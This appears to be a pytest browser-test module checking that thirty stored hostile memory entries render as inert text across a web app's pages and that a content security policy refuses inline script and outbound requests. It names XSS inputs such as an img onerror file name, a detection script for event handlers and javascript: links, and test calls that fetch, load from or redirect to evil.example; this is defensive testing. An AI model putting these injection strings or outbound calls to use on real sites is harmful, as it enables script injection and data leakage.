"""Memory that wants to be more than text: nothing of it runs, asks for anything, or moves what the page says."""

from pathlib import Path
from urllib.parse import quote

import orjson
import pytest

from honeybadger_agent.errors import RequestFailed
from tests.browser.chromium import TELEPHONE, WIDE, Tab
from tests.browser.conftest import MakeTab, Site
from tests.browser.memories import HOSTILE, LONG_LINE, TAG
from tests.browser.scene import REVIEWED, Scene
from tests.hosting import RawSender, wait_for
from tests.people import newest_edit, wait_until_looked_at

GROUP = "hostile"
_PAGES = (
    *("/g/{group}/context?message=script+evil", "/g/{group}/context?session={session}", "/g/{group}/memory"),
    *("/g/{group}/memory?kind=notes", "/g/{group}/memory?query=script+evil+x", "/g/{group}/blame"),
    *("/g/{group}/memory?kind=archived", "/g/{group}/tasks"),
    *("/g/{group}/search?query=script+evil+x&limit=100", "/g/{group}/timeline", "/timeline"),
    *("/g/{group}/talk?session={session}", "/g/{group}/talk", f"/g/{REVIEWED}/review", "/health", "/"),
)
_SHAPE = """() => {
  const main = document.querySelector("main");
  const odd = [...document.querySelectorAll("*")].filter((each) =>
    [...each.attributes].some((one) => one.name.startsWith("on") || one.name === "style") ||
    /javascript:/i.test(each.getAttribute("href") ?? "") ||
    ["IFRAME", "OBJECT", "EMBED", "BASE", "STYLE", "IMG", "MATH", "B", "I"].includes(each.tagName.toUpperCase()) ||
    (each.tagName === "SCRIPT" && !each.getAttribute("src")?.startsWith("/static/")));
  const away = [...document.querySelectorAll("a[href], form[action], link[href]")].filter((each) =>
    new URL(each.getAttribute("href") ?? each.getAttribute("action"), document.baseURI).origin !== location.origin);
  scrollTo(0, 0);
  const link = document.querySelector("header a.brand").getBoundingClientRect();
  return {
    odd: odd.map((each) => each.outerHTML.slice(0, 200)),
    away: away.map((each) => each.outerHTML.slice(0, 200)),
    top: document.elementFromPoint(link.left + 2, link.top + link.height / 2)?.className,
    direction: getComputedStyle(main).direction,
    visible: main.checkVisibility(),
    marks: (document.body.innerText.match(/[\\u202a-\\u202e\\u2066-\\u2069\\u200b]/g) ?? []).length,
  };
}"""
_AS_IT_SHOULD_BE = {"odd": [], "away": [], "top": "brand", "direction": "ltr", "visible": True, "marks": 0}


@pytest.fixture(scope="module")
def places(furnished: tuple[Site, Scene]) -> dict[str, str]:
    """A group in which everything that can be is hostile: what its pages are called."""
    site, _ = furnished
    client, talk = site.client(GROUP), site.client(GROUP, session="odd:session")
    places = {"group": GROUP, "session": "odd:session"}
    for name, text in HOSTILE.items():
        places[name] = _saved(site, text)
        client.update_memory(text, _short(text, 60))
        talk.append_turn("user", text, sender=_short(text, 40))
        site.client(REVIEWED, "mallory").update_memory(text)
    client.schedule_task(_short(HOSTILE["script"], 60), HOSTILE["form"], "interval", interval_seconds=86_400)
    client.send_message(HOSTILE["css over everything"])
    folder = site.home / "groups" / GROUP
    wait_until_looked_at(site.home)
    (folder / "CLAUDE.md").write_text(f"{HOSTILE['css']}\n{LONG_LINE}\n")
    _write_by_hand(folder)
    sender = RawSender(site.home, GROUP, "mallory").make()
    for stem, name in (("<img src=x onerror=ran(1)>", "script"), ("a\u202eb", "overrides of direction"), ("c", "css")):
        sender.drop(stem, HOSTILE[name].encode() + b"\xff\x00")
    wait_for(lambda: len(list(sender.dead.glob("*.reason.json"))) == 3, what="three dead letters")
    wait_for(lambda: client.search_memory("handwritten", scope="entries").hits, what="the entry written by hand")
    newest_edit(site.home, f"groups/{GROUP}/CLAUDE.md")
    return places


def _short(text: str, most: int) -> str:
    """Return what of a text is taken for a name: the rest is refused, which other tests look at."""
    kept = "".join(each for each in text[:most] if each.isascii() and each.isprintable() and each not in "[]")
    return " ".join(kept.split()) or "x"


def _saved(site: Site, text: str) -> str:
    """Save an entry whose every member is hostile, or as many of them as the host takes."""
    client, short = site.client(GROUP), _short(text, 50)
    try:
        saved = client.save_memory(
            *(text, None, [TAG, short]), {TAG: text[:2000]}, title=short, origin="web", origin_from=short
        )
    except RequestFailed:
        saved = client.save_memory(text, tags=[TAG])  # some are not allowed in a title
    return str(saved.id)


def _write_by_hand(folder: Path) -> None:
    odd = folder / "memory" / "general"
    odd.mkdir(parents=True, exist_ok=True)
    entry = {"content": "handwritten " + HOSTILE["event handler"], "title": HOSTILE["script"], "tags": [TAG]}
    for name in ("by-hand.json", "<img src=x onerror=ran(1)>.json"):
        (odd / name).write_bytes(orjson.dumps(entry))


def test_thirty_hostile_memories_neither_run_nor_move_the_page(open_tab: MakeTab, places: dict[str, str]) -> None:
    assert len(HOSTILE) == 30
    tab = open_tab()
    wrong: list[object] = []
    for address in (*(page.format(**places) for page in _PAGES), *_one_by_one(tab, places)):
        tab.resize(WIDE)
        tab.go(address)
        tab.open_all()
        wide = tab.sideways()
        tab.resize(TELEPHONE)
        found = (tab.page.evaluate(_SHAPE), wide, tab.sideways())
        if found != (_AS_IT_SHOULD_BE, 0, 0):
            wrong.append((address, *found))
        tab.check()
    assert wrong == []


def _one_by_one(tab: Tab, places: dict[str, str]) -> list[str]:
    """Return the pages of each entry, and of what else has one."""
    found = [f"/g/{GROUP}/entry?id={places[name]}" for name in HOSTILE]
    for listed, link in (
        (f"/g/{GROUP}/tasks", "main th a"),
        (f"/g/{REVIEWED}/review", "main .needs .need-what > a"),
        (f"/g/{GROUP}/timeline", ".change-what > a"),
        (f"/g/{GROUP}/timeline?file=CLAUDE.md", ".change-what > a"),
        (f"/g/{GROUP}/search?query=handwritten&scope=entries", "#results li > a"),
    ):
        tab.go(listed)
        hrefs: list[str] = tab.page.locator(link).evaluate_all("all => all.map(each => each.getAttribute('href'))")
        assert hrefs, listed
        found += hrefs[:6]
    return found


def _look(tab: Tab) -> None:
    tab.open_all()
    assert tab.page.evaluate(_SHAPE) == _AS_IT_SHOULD_BE, tab.path
    assert tab.sideways() == 0, tab.path


@pytest.mark.parametrize("name", ["script that closes what it stands in", "form", "long word"])
def test_hostile_text_survives_a_form_unchanged(open_tab: MakeTab, site: Site, group: str, name: str) -> None:
    client = site.client(group)
    entry = client.save_memory("harmless")
    tab = open_tab()
    tab.go(f"/g/{group}/entry?id={entry.id}")
    tab.open_all()
    tab.page.get_by_label("Text").fill(HOSTILE[name])
    client.edit_memory(entry.id, content="somebody was quicker")
    tab.press("Save")
    _look(tab)
    assert tab.page.get_by_label("Text").input_value() == HOSTILE[name]
    tab.press("Save mine over it")
    _look(tab)
    assert client.get_memory(entry.id).content == HOSTILE[name]


def test_hostile_words_in_addresses_and_talk_are_text(open_tab: MakeTab, group: str) -> None:
    tab = open_tab()
    for names in (("script", "template"), ("event handler in an attribute", "entities"), ("form",)):
        text = quote(" ".join(HOSTILE[name] for name in names), safe="")
        for address in (
            *(f"/g/{group}/search?query={text}&category=x", f"/g/{group}/context?message={text}&as_of=x{text[:30]}"),
            *(f"/g/{group}/timeline?by={text}&file={text}", f"/{text}", f"/g/{text}/memory"),
            f"/g/{group}/entry?id={text}",
        ):
            tab.go(address)
            _look(tab)
    tab.go(f"/g/{group}/talk")
    tab.page.get_by_label("Say something").fill(HOSTILE["event handler"])
    tab.press("Send")
    tab.page.locator(".said.user").filter(has_text=HOSTILE["event handler"]).wait_for()
    tab.wait_for_answer()
    assert "I have noted that." in tab.words()
    assert HOSTILE["event handler"] in tab.words()
    _look(tab)


def test_the_policy_refuses_what_would_run(open_tab: MakeTab, site: Site) -> None:
    """The guard behind the escaping; and that the checks of this module can fail."""
    tab = open_tab()
    tab.go("/")
    tab.page.evaluate("html => { document.querySelector('main').innerHTML = html; }", HOSTILE["event handler"])
    wait_for(lambda: tab.page.evaluate("1") and tab.refused, what="the policy to refuse it")
    assert not tab.ran
    assert tab.page.evaluate(_SHAPE)["odd"]
    tab.page.evaluate("fetch('http://evil.example/').catch(() => 0).then(() => 1)")
    tab.page.evaluate("() => { const it = new Image(); it.src = '//evil.example/x.png'; document.body.append(it); }")
    wait_for(lambda: tab.page.evaluate("1") and len(tab.refused) >= 3, what="the policy to refuse what leaves")
    assert tab.left == []
    tab.page.evaluate("() => { location.href = 'http://evil.example/'; }")
    wait_for(lambda: tab.page.evaluate("1") and tab.left, what="the log of what leaves")
    tab.page.goto(f"{site.base}/")
    tab.page.evaluate("ran('x')")
    assert tab.ran == ["x"]
    for kept in (tab.ran, tab.left, tab.refused, tab.failed):
        kept.clear()
